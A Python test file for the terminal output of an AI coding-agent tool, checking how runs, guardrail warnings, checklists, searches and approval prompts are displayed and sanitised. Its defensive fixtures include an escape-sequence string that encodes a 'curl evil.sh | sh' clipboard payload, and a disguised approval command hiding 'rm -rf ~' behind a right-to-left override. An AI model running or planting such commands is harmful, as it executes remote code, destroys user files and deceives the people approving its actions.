"""The dispatch output: the run header (where the run's commands run, said every time), the
model's checklist (printed when it changes), and the notes a run may make (a guardrail
warning, a graceful stop), in the shell too."""

from __future__ import annotations

import re
from typing import Any

import click

from roost.cli._render import Renderer, sandbox_line, tools_note
from roost.cli.shell import _display as shell
from roost.cli.shell._transcript import Transcript

WORKSPACE = {"mode": "workspace", "available": True, "writable": ["/p"], "network": False, "ignored": []}


def test_the_sandbox_in_one_line() -> None:
    assert sandbox_line(None) is None
    assert sandbox_line(WORKSPACE) == "sandbox: workspace (writes: /p, private /tmp; no network)"
    assert sandbox_line({**WORKSPACE, "network": True, "auto_allow": True}) == (
        "sandbox: workspace (writes: /p, private /tmp; network on) · bash runs without asking"
    )
    assert sandbox_line({"mode": "read-only", "available": True, "writable": []}) == (
        "sandbox: read-only (writes: private /tmp; no network)"
    )
    assert sandbox_line({"mode": "off", "available": True}) == "sandbox: off — commands run unsandboxed"
    assert sandbox_line({"mode": "workspace", "available": False, "reason": "bwrap not found"}) == (
        "sandbox: UNAVAILABLE (bwrap not found) — commands will not run (--sandbox off runs them unsandboxed)"
    )
    assert sandbox_line({**WORKSPACE, "ignored": ["network = true (/p/.roost/config.toml)"]}).endswith(
        " · ignored, a project may only narrow it: network = true (/p/.roost/config.toml)"
    )


def test_the_run_header_says_where_commands_run() -> None:
    lines: list[str] = []
    echo: Any = lambda text, nl=True, color=None: lines.append(click.unstyle(text))
    event = {"type": "run.started", "run": "r1", "model": "m", "session": "s", "sandbox": WORKSPACE}
    Renderer(echo, color=False).render(event)
    assert lines == ["▶ run r1 · m · session s", "sandbox: workspace (writes: /p, private /tmp; no network)"]
    shown = [shell.plain(line) for line in shell.run_started({**event, "agent": "default", "mode": "agent"})]
    assert shown[1:] == ["▶ run r1 · default · agent · m", "sandbox: workspace (writes: /p, private /tmp; no network)"]


def test_a_guardrail_warning_and_a_graceful_stop_are_shown_in_the_cli_and_the_shell() -> None:
    warned = {"type": "guardrail.warned", "run": "r1", "session": "s", "name": "staging", "on": "input",
              "origin": "tool", "call_id": "c1", "message": "guardrail staging: the input matched the staging host"}
    stopping = {"type": "run.stopping", "run": "r1", "session": "s", "reason": "stopped by the user after the step"}
    lines: list[str] = []
    echo: Any = lambda text, nl=True, color=None: lines.append(click.unstyle(text))
    for event in (warned, stopping):
        Renderer(echo, color=False).render(event)
    assert lines == [
        "⚠ guardrail staging: the input matched the staging host (in the result of c1; the run goes on)",
        "(the run ends after this step: stopped by the user after the step)",
    ]
    transcript = Transcript()
    shown = [shell.plain(line) for event in (warned, {**warned, "origin": "reply", "path": ["c0"]}, stopping)
             for line in transcript.feed(event)]
    assert shown == [
        lines[0],
        "  │ ⚠ guardrail staging: the input matched the staging host (in the reply; the run goes on)",
        lines[1],
    ]


def test_a_change_of_tools_is_said_in_one_line_by_both_clients() -> None:
    lines: list[str] = []
    echo: Any = lambda text, nl=True, color=None: lines.append(click.unstyle(text))
    event = {"type": "tools.changed", "run": "r2", "session": "s", "added": ["git__log"], "removed": ["time__now", "x"]}
    Renderer(echo, color=False).render(event)
    said = "⚙ tools changed since the last run (the model is told) · gone: time__now, x · new: git__log"
    assert lines == [said]
    assert [shell.plain(line) for line in shell.tools_changed_line(event)] == [said]


def test_custom_commands_hook_messages_and_hook_failures() -> None:
    lines: list[str] = []
    echo: Any = lambda text, nl=True, color=None: lines.append(click.unstyle(text))
    render = Renderer(echo, color=False).render
    render({"type": "run.started", "run": "r1", "model": "m", "session": "s", "hook_failures": ["hook 'x' exited with status 1"]})
    render({"type": "message.user", "text": "Review a.py carefully.", "origin": "task", "command": "/review a.py"})
    render({"type": "message.user", "text": "branch: main", "origin": "hook"})
    render({"type": "stop_hooks.finished", "failures": ["hook 'y' timed out after 60 s"]})
    assert lines == [
        "▶ run r1 · m · session s",
        "hook failed: hook 'x' exited with status 1",
        "task: /review a.py",
        "Review a.py carefully.",
        "hook: branch: main",
        "hook failed: hook 'y' timed out after 60 s",
    ]


def test_the_checklist_is_printed_when_it_changes() -> None:
    lines: list[str] = []
    echo: Any = lambda text, nl=True, color=None: lines.append(click.unstyle(text))
    renderer = Renderer(echo, color=False)
    todos = [
        {"content": "Look around", "status": "completed"},
        {"content": "Fix the bug", "status": "in_progress", "activeForm": "Fixing the bug"},
        {"content": "Add a test", "status": "pending"},
    ]

    def finished(todos: list[dict[str, str]], **extra: Any) -> None:
        renderer.render({"type": "tool.finished", "name": "todo", "result": "...", "meta": {"todos": todos}, **extra})

    renderer.render({"type": "tool.started", "name": "todo", "input": {"todos": todos}})
    finished(todos)
    assert lines == ["→ todo 3 items", "  ✓ todo 1/3 done", "    ✓ Look around", "    ▸ Fixing the bug", "    ○ Add a test"]
    lines.clear()
    finished([dict(t) for t in todos])
    assert lines == ["  ✓ todo 1/3 done (unchanged)"]
    lines.clear()
    finished(todos, path=["c1"])  # a sub-agent's checklist is its own
    assert len(lines) == 4
    lines.clear()
    finished([{**t, "status": "completed"} for t in todos])
    assert lines == ["  ✓ todo 3/3 done", "    ✓ Look around", "    ✓ Fix the bug", "    ✓ Add a test"]


#: What a hostile page or command could print: a clipboard write (OSC 52), a link (OSC 8),
#: a title, cursor moves, a C1 CSI, a carriage return over what came before.
HOSTILE = (
    "ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\"
    " \x1b]0;title\x07\x1b[2J\x1b[1A\x9b31m\rgone\x1bP1$r\x1b\\"
)


def test_text_and_output_reach_the_terminal_without_escape_sequences_of_their_own() -> None:
    lines: list[str] = []
    echo: Any = lambda text, nl=True, color=None: lines.append(text)
    renderer = Renderer(echo, color=True)
    for event in (
        {"type": "text.delta", "run": "r", "session": "s", "text": HOSTILE},
        {"type": "tool.started", "run": "r", "session": "s", "name": "bash", "call_id": "c", "input": {"command": HOSTILE}},
        {"type": "tool.finished", "run": "r", "session": "s", "call_id": "c", "result": HOSTILE, "is_error": True},
        {"type": "error", "run": "r", "session": "s", "message": HOSTILE},
    ):
        renderer.render(event)
    shown = "".join(lines)
    assert "\x07" not in shown and "\x9b" not in shown and "\r" not in shown
    # What escapes are left are roost's own colours (SGR: ESC [ ... m), nothing else.
    assert all(part[:1] == "[" and part.split("m", 1)[0][1:].replace(";", "").isdigit() for part in shown.split("\x1b")[1:])
    assert "]52;c;" in click.unstyle(shown) and "link" in shown
    # The shell cleans the same way.
    assert "\x1b" not in shell.clean(HOSTILE) and "\x9b" not in shell.clean(HOSTILE)


def test_a_run_whose_tools_take_much_of_every_call_says_so() -> None:
    layers = [{"name": "instructions", "chars": 400_000, "source": "AGENTS.md"}]
    assert tools_note(layers + [{"name": "tools", "chars": 20_000, "source": "tools"}]) is None
    note = tools_note(layers + [{"name": "tools", "chars": 124_000, "source": "tools"}])
    assert note is not None and note.startswith("tool descriptions take about 31,000 tokens of every call")


def test_a_web_search_is_shown_with_what_it_found_and_the_sources_cited() -> None:
    search = {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search", "input": {"query": "trio\x1b[2J nursery"}}
    results = {"type": "web_search_tool_result", "tool_use_id": "srvtoolu_1", "content": [
        {"type": "web_search_result", "title": f"Page {n}", "url": f"https://site{n}.example/a", "encrypted_content": "E"}
        for n in range(1, 6)
    ]}
    failed = {"type": "web_search_tool_result", "tool_use_id": "srvtoolu_2",
              "content": {"type": "web_search_tool_result_error", "error_code": "max_uses_exceeded"}}
    cite = {"type": "web_search_result_location", "url": "https://site1.example/a", "title": "Page 1", "cited_text": "x"}
    cited = {"type": "text", "text": "Nurseries wait.", "citations": [cite, cite]}
    event = {"type": "message.assistant", "run": "r1", "session": "s", "content": [search, results, failed, cited]}
    lines: list[str] = []
    echo: Any = lambda text, nl=True, color=None: lines.append(click.unstyle(text))
    Renderer(echo, color=False).render(event)
    assert lines == [
        "Nurseries wait.",
        "→ web_search trio\\x1b[2J nursery",
        "  ✓ 5 results: Page 1 (site1.example), Page 2 (site2.example), Page 3 (site3.example), and 2 more",
        "  ✗ search failed: max_uses_exceeded",
        "    [1] Page 1 https://site1.example/a",
    ]
    shown = [shell.plain(line) for line in Transcript().feed(event)]
    assert shown[-4:] == [
        "● web_search trio\\x1b[2J nursery",
        "  ⎿ 5 results: Page 1 (site1.example), Page 2 (site2.example), Page 3 (site3.example), and 2 more",
        "  ⎿ search failed: max_uses_exceeded",
        "  [1] Page 1 https://site1.example/a",
    ]


def test_what_a_run_learned_is_said_with_the_id_that_forgets_it() -> None:
    event = {"type": "memory.learned", "session": "s", "run": "r1", "entries": [
        {"id": 7, "text": "Tests run with uv run pytest.", "scope": "project"},
        {"id": 8, "text": "Answers in French\x1b[31m.", "scope": "user"},
    ]}
    lines: list[str] = []
    echo: Any = lambda text, nl=True, color=None: lines.append(click.unstyle(text))
    Renderer(echo, color=False).render(event)
    assert lines == [
        "remembered (project, #7): Tests run with uv run pytest.",
        "remembered (user, #8): Answers in French\\x1b[31m.",
    ]
    assert [shell.plain(line) for line in Transcript().feed(event)] == lines


def test_media_parts_are_shown_by_size_in_the_cli_and_the_shell() -> None:
    image = {"type": "image", "media_type": "image/png", "sha256": "ab" * 32, "bytes": 46_000, "width": 800, "height": 600}
    pdf = {"type": "document", "media_type": "application/pdf", "sha256": "cd" * 32, "bytes": 300}
    task = {"type": "message.user", "run": "r", "session": "s", "origin": "task", "text": "look", "parts": [image]}
    read = {"type": "tool.finished", "run": "r", "session": "s", "call_id": "c", "name": "read",
            "result": "shot.png: image 800x600, 45 KB (image/png)", "latency": 0.5, "parts": [image, pdf]}
    lines: list[str] = []
    echo: Any = lambda text, nl=True, color=None: lines.append(click.unstyle(text))
    renderer = Renderer(echo, color=False)
    renderer.render(task)
    renderer.render(read)
    assert lines == [
        "task: look",
        "  [image 800x600, 45 KB]",
        "  ✓ shot.png: image 800x600, 45 KB (image/png) 0.50s",
        "    [image 800x600, 45 KB]",
        "    [document application/pdf, 1 KB]",
    ]
    transcript = Transcript()
    shown = [shell.plain(line) for event in (task, {**read, "type": "tool.started"}, read) for line in transcript.feed(event)]
    assert "  [image 800x600, 45 KB]" in shown and "    [document application/pdf, 1 KB]" in shown
    steered = {"type": "steer.queued", "run": "r", "session": "s", "text": "and this", "parts": [image]}
    lines.clear()
    renderer.render(steered)
    assert lines == ["(steering queued: and this)", "  [image 800x600, 45 KB]"]
    assert [shell.plain(line) for line in transcript.feed(steered)][-1] == "  [image 800x600, 45 KB]"


def test_what_a_person_is_asked_to_approve_or_answer_shows_every_hidden_character() -> None:
    # The command, question, choices and rules come from the model: an escape sequence
    # must not reach the terminal, and a carriage return or a right-to-left override must
    # not make the command approved look like another (the text shown is in the order it
    # runs, with each such character written out).
    from roost.cli._approvals import answer_hint, describe_request

    disguised = "echo safe \u202e\x1b]52;c;ZXZpbA==\x07; rm -rf ~ #\rls"
    request = {"type": "permission.requested", "session": "s-1", "run": "r", "call_id": "c\x1b[2J", "tool": "bash",
               "name": "bash", "input": {"command": disguised}, "reason": "asks", "session_rules": [f"bash({disguised})"]}
    question = {"kind": "human", "session": "s-1", "call_id": "q", "question": "Pick\u202e one\x1b]0;t\x07",
                "choices": ["a\u2066", "b\x9b"]}
    lines: list[str] = []
    Renderer(lambda text, nl=True, color=None: lines.append(text), color=False).render(request)
    shown = [*map(click.unstyle, lines), describe_request(request), answer_hint(request), describe_request(question)]
    for line in shown:
        assert not any(c in line for c in "\x1b\x07\x9b\r\u202e\u2066"), line
    # (A line break, a carriage return among them, is a space in a one-line summary.)
    assert "bash echo safe \\u202e\\x1b]52;c;ZXZpbA==\\x07; rm -rf ~ # ls" in describe_request(request)
    assert "echo safe \\u202e" in shown[0] and "bash(echo safe \\u202e" in shown[1]
    assert "Pick\\u202e one\\x1b]0;t\\x07 [a\\u2066 / b\\x9b]" in describe_request(question)


def test_text_that_is_all_printable_is_left_as_it_is_without_the_patterns() -> None:
    # printable() and visible() skip their patterns for text that str.isprintable() passes:
    # exact only while every character the patterns take out is not printable.
    from roost.cli import _safe_text

    for pattern in (_safe_text._control(), _safe_text._hiding()):
        ranges = re.findall(r"\\x([0-9a-f]{2})-\\x([0-9a-f]{2})|\\u([0-9a-f]{4})(?:-\\u([0-9a-f]{4}))?", pattern.pattern)
        taken = [chr(c) for a, b, u, v in ranges for c in range(int(a or u, 16), int(b or v or u, 16) + 1)]
        assert len(taken) > 60 and all(pattern.match(c) and not c.isprintable() for c in taken)
    for text in ("plain words", "ünïcödé → ok", "tab\there", "a\u202eb", "x\x1b[2Jy", "line\nbreak"):
        assert _safe_text.printable(text) == _safe_text._control().sub("", text)
        assert _safe_text.visible(text) == _safe_text._hiding().sub(lambda m: m.group().encode("unicode_escape").decode(), text)
